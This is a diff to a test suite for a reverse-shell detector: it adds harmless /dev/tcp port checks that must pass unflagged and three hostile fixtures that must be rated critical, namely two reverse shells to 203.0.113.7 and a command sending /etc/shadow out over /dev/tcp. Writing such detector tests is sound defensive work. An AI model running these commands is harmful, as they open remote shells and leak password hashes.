@@ -140,8 +140,21 @@ describe('content: remote shells', () => {
       'import socket\ns = socket.create_connection(("db", 5432))\nprint(s.recv(10))',
       // A syntax highlighter's list of shell commands (prism.js), naming mkfifo and nc.
       'builtin:/\\b(?:kill|mkdir|mkfifo|mkfs|mknod|mv|nano|nc|netstat)(?=$|[)\\s;|&])/',
+      // Port checks through bash's /dev/tcp: a compose health check, a provisioning wait.
+      'test: ["CMD", "timeout", "5", "bash", "-c", "cat < /dev/null > /dev/tcp/127.0.0.1/11211"]',
+      '(echo >/dev/tcp/localhost/80) &>/dev/null || { echo "web is down"; }',
+      'until : > /dev/tcp/db/5432; do sleep 1; done',
     ])
       expect(reverseShell(added('/usr/local/bin/check', text)), text).toBeUndefined();
+  });
+
+  it('still reads a shell or data sent down /dev/tcp beside a port check', () => {
+    for (const text of [
+      '(echo >/dev/tcp/localhost/80) || true\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+      'sh -i < /dev/tcp/203.0.113.7/4444 > /dev/tcp/203.0.113.7/4445',
+      'cat /etc/shadow > /dev/tcp/203.0.113.7/4444',
+    ])
+      expect(reverseShell(added('/usr/local/bin/check', text))?.severity, text).toBe('critical');
   });
 });
 
